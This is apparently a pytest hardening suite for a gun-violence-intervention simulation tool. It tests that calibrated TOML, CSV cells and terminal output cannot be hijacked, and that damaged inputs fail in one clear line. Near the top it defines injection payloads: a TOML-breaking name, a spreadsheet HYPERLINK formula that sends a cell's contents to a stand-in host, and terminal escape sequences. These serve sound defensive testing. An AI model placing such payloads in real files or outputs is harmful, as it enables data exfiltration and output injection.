"""Hardening, round two: files assembled by pasting text (calibrated.toml, CSV cells,
the terminal), and inputs that ended in a traceback, NaN or a hang (a damaged result
folder, symbolic-link loops, near-zero divisors, impossible calibration targets, a Dask
scheduler without workers)."""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import io
import json
import math
import time
import tomllib
from importlib.util import find_spec
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from pydantic import ValidationError

from experiments.calibrate import CalibrationResult, calibrate, scenario_toml
from experiments.calibrate_spec import TARGETS, Calibration, load_calibration
from experiments.comparison import Comparison, compare
from experiments.output import (
    FORMULA_START,
    csv_cell,
    csv_safe,
    csv_text,
    terminal_text,
)
from gvi.cli import main
from gvi.cli.show import print_comparison
from model import GVIModel
from scenarios import ScenarioError, load_scenario, parameters

# A calibration name that, pasted into TOML, closed the string, set two keys of its own
# and swallowed the rest into a multi-line string: the file loaded, and validated.
INJECTING_NAME = "a\"\nenforcement.fidelity = 0.0\ncity.audit_dir = \"/tmp\"\ndescription = '''#"
CRAFTED_NAMES = [
    'say "hi"',
    "back\\slash",
    INJECTING_NAME,
    "x\n[city]\nn_groups = 3",
    "tab\tnul\x00 del\x7f esc\x1b[31m ü 🙂 \u2028 ]]'''\"\"\"",
]
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
ESCAPES = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J \x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\ \r"


def run_cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue(), err.getvalue()


def one_error(code: int, out: str, err: str) -> str:
    """The single ``error: ...`` line of a refused command."""
    assert code == 2, err
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), lines
    assert "Traceback" not in out + err
    return lines[0]


# --- calibrated.toml ----------------------------------------------------------------


def _result(name: str, scenario: str = "baseline") -> CalibrationResult:
    cal = Calibration.model_validate(
        {
            "name": name,
            "scenario": scenario,
            "parameters": [{"path": "violence.base_hazard", "prior": [1e-5, 1e-4]}],
            "targets": [{"name": "shootings_per_year", "value": 60, "scale": 6}],
        }
    )
    summary = {"accepted": 25, "parameters": {"violence.base_hazard": {"median": 5.4321e-5}}}
    return CalibrationResult(cal, pd.DataFrame(), pd.DataFrame(), summary)


@pytest.mark.parametrize("name", CRAFTED_NAMES, ids=range(len(CRAFTED_NAMES)))
def test_calibrated_toml_keeps_any_name_as_data(name: str, tmp_path: Path) -> None:
    text = scenario_toml(_result(name))
    doc = tomllib.loads(text)
    assert set(doc) == {"name", "description", "extends", "violence"}
    assert doc["name"] == f"{name}-calibrated"
    assert doc["description"] == f"baseline with parameters calibrated by {name}"
    assert doc["violence"] == {"base_hazard": 5.4321e-5}
    assert text.startswith("# ") and name not in text.splitlines()[0]
    path = tmp_path / "calibrated.toml"
    path.write_text(text, encoding="utf-8")
    scenario = load_scenario(path)
    baseline = load_scenario("baseline")
    assert scenario.name == f"{name}-calibrated"
    assert scenario.enforcement == baseline.enforcement
    assert scenario.city == baseline.city and scenario.city.audit_dir is None
    assert scenario.violence.base_hazard == 5.4321e-5


def test_a_calibration_with_a_crafted_name_writes_safe_files(tmp_path: Path, tiny) -> None:
    short = tiny("baseline", {"time.horizon_days": 60, "time.rollout_day": 20})
    file = tmp_path / "cal.toml"
    file.write_text(
        f'name = {json.dumps(INJECTING_NAME)}\nscenario = "baseline"\nbudget = 10\n'
        'quantile = 0.2\n[[parameters]]\npath = "violence.base_hazard"\n'
        'prior = [0.0005, 0.002]\n[[targets]]\nname = "shootings_per_year"\n'
        "value = 60\nscale = 6\n",
        encoding="utf-8",
    )
    calibrate(file, tmp_path / "out", workers=1, scenario=short)
    scenario = load_scenario(tmp_path / "out" / "calibrated.toml")
    assert scenario.name == f"{INJECTING_NAME}-calibrated"
    assert scenario.enforcement.fidelity == load_scenario("baseline").enforcement.fidelity
    assert scenario.city.audit_dir is None


# --- CSV cells ------------------------------------------------------------------------


def test_csv_cells_never_start_a_formula() -> None:
    for start in FORMULA_START:
        text = f"{start}1+1"
        cell = csv_cell(text)
        assert cell == "'" + text and csv_text(cell) == text
    for text in ("'=1", "''@x", "plain", "'quoted'", "", "1-2", "a=b"):
        assert csv_text(csv_cell(text)) == text  # reversible, also with apostrophes
        assert not csv_cell(text).startswith(FORMULA_START)
    for number in (-1, -2.5, 0, np.int64(-3), np.float64(-0.5), math.nan, None, True):
        assert csv_cell(number) is number  # numbers stay numbers


def test_csv_safe_leaves_numbers_alone() -> None:
    frame = pd.DataFrame(
        {"scenario": [FORMULA, "-1+2", "ok"], "change": [-12.5, -0.0, 3.0], "n": [-1, 2, 3]}
    )
    frame["kind"] = pd.Categorical(["@a", "b", "@a"])
    safe = csv_safe(frame)
    assert list(safe["scenario"]) == ["'" + FORMULA, "'-1+2", "ok"]
    assert list(safe["kind"]) == ["'@a", "b", "'@a"]
    pd.testing.assert_series_equal(safe["change"], frame["change"])
    pd.testing.assert_series_equal(safe["n"], frame["n"])
    assert list(frame["scenario"])[0] == FORMULA  # the frame itself is unchanged


@pytest.fixture(scope="module")
def saved(tmp_path_factory, tiny) -> tuple[Comparison, Path]:
    """A saved comparison of a scenario named like a spreadsheet formula."""
    scenario = tiny("gvi", {"name": FORMULA, "description": ESCAPES})
    result = compare([scenario], replicates=2, seed=3, workers=1)
    folder = tmp_path_factory.mktemp("cmp") / "out"
    result.save(folder)
    return result, folder


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_comparison_csv_files_hold_no_formula(saved) -> None:
    result, folder = saved
    for name in ("summary.csv", "effects.csv"):
        cells = _cells(folder / name)
        assert "'" + FORMULA in cells and "'" + FORMULA + "-baseline" in cells
        for cell in cells:
            if cell.startswith(FORMULA_START):  # only numbers may start with a sign
                float(cell)
    effects = pd.read_csv(folder / "effects.csv")
    for column in ("change_pct", "ci_low", "ci_high"):  # numbers stay numbers
        assert effects[column].dtype.kind == "f"
    again = Comparison.load(folder)
    assert again.names == result.names == [f"{FORMULA}-baseline", FORMULA]
    assert set(again.effects["scenario"]) == set(result.names)
    assert again.report(folder / "again.html").is_file()


def test_calibration_csv_files_go_through_the_same_helper(tmp_path: Path, monkeypatch) -> None:
    import experiments.calibrate as calibrate_module

    written = []
    monkeypatch.setattr(calibrate_module, "write_csv", lambda frame, path: written.append(path))
    monkeypatch.setattr(calibrate_module, "atomic_text", lambda text, path: None)
    monkeypatch.setattr("gvi.report.calibrate.posterior_plot", lambda r, p: None)
    calibrate_module.write_outputs(_result("x"), tmp_path)
    assert [p.name for p in written] == ["draws.csv", "accepted.csv"]


# --- the terminal ---------------------------------------------------------------------


def test_terminal_text_removes_escape_sequences() -> None:
    assert terminal_text(ESCAPES) == "red   link "
    assert terminal_text("a\tb\nc") == "a b c"
    assert terminal_text("a\tb\nc\x1b[1A", newlines=True) == "a\tb\nc"
    assert terminal_text("abc\u202eevil\u2066") == "abcevil"
    assert terminal_text("Örebro — 12 %") == "Örebro — 12 %"
    for code in [*range(0x20), *range(0x7F, 0xA0)]:  # every C0 and C1 control
        for newlines in (False, True):
            shown = terminal_text(f"x{chr(code)}y\x07", newlines=newlines)
            kept = "\t\n" if newlines else ""
            assert shown.startswith("x")
            assert not [c for c in shown if (c < " " or "\x7f" <= c < "\xa0") and c not in kept]


def test_gvi_run_prints_no_escape_sequence(tmp_path: Path) -> None:
    file = tmp_path / "evil.toml"
    file.write_text(
        f"name = {json.dumps('=x' + ESCAPES)}\ndescription = {json.dumps(ESCAPES)}\n"
        'extends = "gvi"\n[time]\nwarmup_days = 30\nhorizon_days = 60\nrollout_day = 20\n'
        "[callins]\nfirst_day = 5\n",
        encoding="utf-8",
    )
    code, out, err = run_cli("run", str(file))
    assert code == 0, err
    head = out.splitlines()[0]
    assert head == "Scenario '=xred   link ': red   link "
    assert not any(c in out for c in "\x1b\x9b\x07\r")


def test_the_comparison_table_prints_no_escape_sequence(saved, capsys) -> None:
    result, _ = saved
    names = {n: n + ESCAPES for n in result.names}
    renamed = dataclasses.replace(
        result,
        scenarios=[s.with_updates({"name": names[s.name]}) for s in result.scenarios],
        baseline=names[result.baseline],
        summary=result.summary.replace({"scenario": names}),
        effects=result.effects.replace({"scenario": names, "baseline": names}),
    )
    print_comparison(renamed)
    out = capsys.readouterr().out
    assert FORMULA in out and not any(c in out for c in "\x1b\x9b\x07\r")


# --- gvi report on a damaged result folder ----------------------------------------------


def _damaged(folder: Path, tmp_path: Path, change) -> Path:
    copy = tmp_path / "copy"
    copy.mkdir(exist_ok=True)
    for name in ("runs.parquet", "summary.parquet", "effects.csv"):
        (copy / name).write_bytes((folder / name).read_bytes())
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    manifest = change(manifest)
    (copy / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return copy


def _set(key, value):
    def change(m):
        return {**m, key: value}

    return change


def _drop(key):
    def change(m):
        return {k: v for k, v in m.items() if k != key}

    return change


def _scenario(index: int, params):
    def change(m):
        records = list(m["scenarios"])
        records[index] = {**records[index], "parameters": params}
        return {**m, "scenarios": records}

    return change


DAMAGE = {
    "not an object": (lambda m: [1], "must be a JSON object, not [1]"),
    "null": (lambda m: None, "must be a JSON object, not None"),
    "text": (lambda m: "x", "must be a JSON object"),
    "no scenarios": (_drop("scenarios"), "scenarios: is missing"),
    "no days": (_drop("days"), "days: is missing"),
    "no baseline": (_drop("baseline"), "baseline: is missing"),
    "scenarios a number": (_set("scenarios", 5), "scenarios: must be a list"),
    "scenarios empty": (_set("scenarios", []), "scenarios: is empty"),
    "scenario a number": (_set("scenarios", [1]), "scenarios[1]: must be a scenario record"),
    "no parameters": (_set("scenarios", [{"x": 1}]), "scenarios[1].parameters: is missing"),
    "invalid scenario": (
        _scenario(1, {"name": "g", "enforcement": {"fidelity": 2}, "time": {"warmup_days": -1}}),
        "scenarios[2]: ",
    ),
    "days a list": (_set("days", [1]), "days: must be an object"),
    "days text": (_set("days", {"warmup": "x", "rollout": 1, "end": 2}), "days.warmup: must be"),
    "days without end": (_set("days", {"warmup": 0, "rollout": 1}), "days.end: is missing"),
    "days out of order": (_set("days", {"warmup": 5, "rollout": 9, "end": 9}), "days: must run"),
    "call-ins a number": (_set("callin_days", {"x": 5}), "callin_days['x']: must be a list"),
    "replicates null": (_set("replicates", None), "replicates: must be a whole number"),
    "replicates 1.5": (_set("replicates", 1.5), "replicates: must be a whole number"),
    "replicates true": (_set("replicates", True), "replicates: must be a whole number"),
    "replicates 0": (_set("replicates", 0), "replicates: must be at least 1"),
    "entropy text": (_set("root_seed_entropy", "abc"), "root_seed_entropy: must be"),
    "entropy negative": (_set("root_seed_entropy", "-4"), "root_seed_entropy: must be"),
    "baseline a number": (_set("baseline", 3), "baseline: must be a scenario name"),
    "baseline unknown": (_set("baseline", "nope"), "baseline: 'nope' is not one of"),
    "cities a number": (_set("cities", 5), "cities: must be a list"),
    "cities of numbers": (_set("cities", [1, 2]), "cities[1]: must be a city record"),
    "city without groups": (_set("cities", [{"scenario": "x"}]), "cities[1].groups: is missing"),
    "another kind": (_set("kind", "experiment_x"), "kind: is 'experiment_x'"),
    "twin text": (_set("baseline_is_twin", "yes"), "baseline_is_twin: must be true or false"),
}


@pytest.mark.parametrize("damage", DAMAGE, ids=list(DAMAGE))
def test_a_damaged_manifest_is_one_line(damage: str, saved, tmp_path: Path) -> None:
    change, expected = DAMAGE[damage]
    folder = _damaged(saved[1], tmp_path, change)
    with pytest.raises(ValueError) as info:
        Comparison.load(folder)
    message = str(info.value)
    assert "\n" not in message and message.startswith("manifest.json: ")
    assert expected in message and message.endswith("rerun gvi compare to write the folder again")
    if damage in ("not an object", "null", "text"):
        return  # the command line reads these itself first: see the test below
    line = one_error(*run_cli("report", str(folder)))
    assert str(folder) in line and expected in line


def test_an_invalid_stored_scenario_is_one_line(saved, tmp_path: Path) -> None:
    change = _scenario(1, {"name": "g", "enforcement": {"fidelity": 2.0}})
    folder = _damaged(saved[1], tmp_path, change)
    line = one_error(*run_cli("report", str(folder)))
    assert "manifest.json: scenarios[2]: enforcement.fidelity = 2.0: must be >= 0 and <= 1" in line


@pytest.mark.parametrize("damage", ["not an object", "null", "text"])
def test_report_on_a_manifest_that_is_not_an_object(damage: str, saved, tmp_path: Path) -> None:
    folder = _damaged(saved[1], tmp_path, DAMAGE[damage][0])
    line = one_error(*run_cli("report", str(folder)))
    assert "must be a JSON object" in line


# --- symbolic-link loops ------------------------------------------------------------------


def test_symbolic_link_loops_are_one_line(tmp_path: Path) -> None:
    (tmp_path / "a.toml").symlink_to("b.toml")
    (tmp_path / "b.toml").symlink_to("a.toml")
    (tmp_path / "self.toml").symlink_to("self.toml")
    child = tmp_path / "child.toml"
    child.write_text('extends = "a.toml"\n', encoding="utf-8")
    audit = tmp_path / "audit"
    audit.mkdir()
    example = Path(__file__).resolve().parent.parent / "scenarios" / "audits" / "example"
    for name in ("rivalries.csv", "members.csv"):
        (audit / name).write_bytes((example / name).read_bytes())
    (audit / "groups.csv").symlink_to("groups.csv")
    city = tmp_path / "city.toml"
    city.write_text('extends = "baseline"\n[city]\naudit_dir = "audit"\n', encoding="utf-8")
    for file, expected in (
        (child, "extends = 'a.toml': parent file "),
        (tmp_path / "a.toml", "a.toml: is a loop of symbolic links"),
        (tmp_path / "self.toml", "self.toml: is a loop of symbolic links"),
    ):
        line = one_error(*run_cli("run", str(file), "--out", str(tmp_path / "out")))
        assert expected in line and "point it at a real file" in line
        with pytest.raises(ScenarioError):
            load_scenario(file)
    code, out, err = run_cli("validate", str(city))
    assert code == 2 and "Traceback" not in err
    lines = err.splitlines()
    assert len(lines) == 2 and "city.audit_dir" in lines[0]
    assert "groups.csv: is a loop of symbolic links" in lines[1]
    assert not (tmp_path / "out").exists()


# --- near-zero divisors --------------------------------------------------------------


DIVISORS = [
    "violence.retaliation_half_life_days",
    "callins.priority_half_life_days",
    "deterrence.half_life_days",
    "legitimacy.half_life_days",
    "community.recovery_half_life_days",
    "city.rivalry_intensity_shape",
    "city.trust_concentration",
    "city.readiness_concentration",
    "city.group_size_sd",
]


@pytest.mark.parametrize("path", DIVISORS)
def test_a_near_zero_divisor_is_refused(path: str, tmp_path: Path) -> None:
    section, key = path.split(".")
    for value in (5e-324, 1e-300, 0.009):
        file = tmp_path / "tiny.toml"
        file.write_text(f'extends = "gvi"\n[{section}]\n{key} = {value!r}\n', encoding="utf-8")
        line = one_error(*run_cli("run", str(file), "--out", str(tmp_path / "out")))
        assert f"{path} = {value!r}: must be" in line and "0.01" in line
    assert not (tmp_path / "out").exists()
    load_scenario("gvi").with_updates({path: 0.01})  # the smallest allowed value


def test_group_size_spread_may_be_zero() -> None:
    assert load_scenario("gvi").with_updates({"city.group_size_sd": 0.0}).city.group_size_sd == 0
    with pytest.raises(ValidationError, match="must be 0 .* or at least 0.01"):
        load_scenario("gvi").with_updates({"city.group_size_sd": 1e-12})


def _smallest_allowed(spec) -> float | None:
    """The smallest value a float parameter accepts near zero, or None (no such bound)."""
    if spec.gt is not None and spec.gt == 0:
        return 5e-324
    if spec.ge is not None and 0 <= spec.ge < 1:
        return spec.ge if spec.ge > 0 else 5e-324
    return None


def test_no_allowed_value_near_zero_gives_inf_or_nan(tiny) -> None:
    """Every float parameter at the smallest positive value it accepts: refused, or a
    run whose arithmetic stays finite (no overflow, no NaN) with finite daily metrics."""
    base = tiny("gvi", {"time.horizon_days": 90})
    tried = 0
    for spec in parameters():
        value = _smallest_allowed(spec) if spec.type == "float" else None
        if value is None:
            continue
        try:
            scenario = base.with_updates({spec.path: value})
        except ValidationError:
            continue
        tried += 1
        with np.errstate(over="raise", invalid="raise"):
            model = GVIModel(scenario, rng=1)
            model.run_model()
        daily = model.daily_metrics().select_dtypes("number").to_numpy(dtype=float)
        assert np.isfinite(daily).all(), spec.path
        assert np.isfinite(model.violence.excitation).all(), spec.path
    assert tried > 20


# --- calibration targets ------------------------------------------------------------------


def _calibration(tmp_path: Path, targets: str) -> Path:
    file = tmp_path / "cal.toml"
    file.write_text(
        'name = "c"\nscenario = "baseline"\nbudget = 20\n[[parameters]]\n'
        'path = "violence.base_hazard"\nprior = [0.00002, 0.00015]\n' + targets,
        encoding="utf-8",
    )
    return file


def _target(name: str, value: float, scale: float = 1.0) -> str:
    return f'[[targets]]\nname = "{name}"\nvalue = {value!r}\nscale = {scale!r}\n'


IMPOSSIBLE = {
    "share above one": (
        _target("share_fatal", 1.5, 0.1),
        "targets[share_fatal].value = 1.5: must be >= 0 and <= 1 (deaths per shooting)",
    ),
    "negative share": (
        _target("share_retaliation", -0.1, 0.1),
        "targets[share_retaliation].value = -0.1: must be >= 0 and <= 1",
    ),
    "negative rate": (
        _target("shootings_per_year", -5.0, 6.0),
        "targets[shootings_per_year].value = -5.0: must be >= 0 (shootings per year)",
    ),
    "negative arrests": (
        _target("arrests_per_year", -1.0),
        "targets[arrests_per_year].value = -1.0: must be >= 0",
    ),
    "more groups than a city has": (
        _target("active_groups", 10_001.0),
        "targets[active_groups].value = 10001.0: must be >= 0 and <= 10000",
    ),
    "negative scale": (
        _target("shootings_per_year", 60.0, -6.0),
        "targets[shootings_per_year].scale = -6.0: must be > 0",
    ),
    "denormal scale": (
        _target("share_injured", 0.3, 1e-320),
        "targets[share_injured].scale = 1e-320: must be >= 1e-09",
    ),
    "shares above one together": (
        _target("share_injured", 0.7, 0.1) + _target("share_fatal", 0.4, 0.1),
        "share_injured + share_fatal must be <= 1",
    ),
}


@pytest.mark.parametrize("case", IMPOSSIBLE, ids=list(IMPOSSIBLE))
def test_an_impossible_target_is_refused(case: str, tmp_path: Path) -> None:
    targets, expected = IMPOSSIBLE[case]
    file = _calibration(tmp_path, targets)
    with pytest.raises(ScenarioError) as info:
        load_calibration(file)
    assert len(info.value.problems) == 1
    assert expected in str(info.value) and "cal.toml" in str(info.value)
    line = one_error(*run_cli("calibrate", str(file), "--out", str(tmp_path / "out")))
    assert expected in line
    assert not (tmp_path / "out").exists()


def test_every_target_declares_its_range_and_the_edges_are_allowed(tmp_path: Path) -> None:
    for name, spec in TARGETS.items():
        assert spec.description and spec.low == 0
        edges = [spec.low] + ([spec.high] if spec.high is not None else [1e6])
        for value in edges:
            load_calibration(_calibration(tmp_path, _target(name, float(value))))


# --- a Dask scheduler without workers ---------------------------------------------------

needs_dask = pytest.mark.skipif(
    find_spec("distributed") is None, reason="dask[distributed] is not installed"
)


@needs_dask
def test_a_scheduler_without_workers_fails_in_one_line(tmp_path: Path, monkeypatch) -> None:
    from distributed import LocalCluster

    from experiments.executors import ENV_WORKER_TIMEOUT, make_executor

    monkeypatch.setenv(ENV_WORKER_TIMEOUT, "1.5")
    monkeypatch.delenv("DASK_SCHEDULER_ADDRESS", raising=False)
    with LocalCluster(
        n_workers=0, processes=False, protocol="tcp", host="127.0.0.1", dashboard_address=None
    ) as cluster:
        address = cluster.scheduler_address
        start = time.monotonic()
        with pytest.raises(ConnectionError, match="has no workers") as info:
            make_executor(scheduler=address)
        assert time.monotonic() - start < 20
        assert address in str(info.value) and ENV_WORKER_TIMEOUT in str(info.value)
        assert "\n" not in str(info.value)
        file = _calibration(tmp_path, _target("shootings_per_year", 60.0, 6.0))
        out = tmp_path / "out"
        line = one_error(
            *run_cli("calibrate", str(file), "--out", str(out), "--scheduler", address)
        )
        assert "has no workers (none joined within 1.5 s)" in line
        assert not (out / "runs").exists()


def test_the_worker_timeout_must_be_seconds(monkeypatch) -> None:
    from experiments.executors import ENV_WORKER_TIMEOUT, WORKER_TIMEOUT, worker_timeout

    monkeypatch.delenv(ENV_WORKER_TIMEOUT, raising=False)
    assert worker_timeout() == WORKER_TIMEOUT == 30
    monkeypatch.setenv(ENV_WORKER_TIMEOUT, " 2.5 ")
    assert worker_timeout() == 2.5
    for bad in ("abc", "0", "-1", "nan", "inf"):
        monkeypatch.setenv(ENV_WORKER_TIMEOUT, bad)
        with pytest.raises(ValueError, match=f"{ENV_WORKER_TIMEOUT}=.*seconds > 0"):
            worker_timeout()
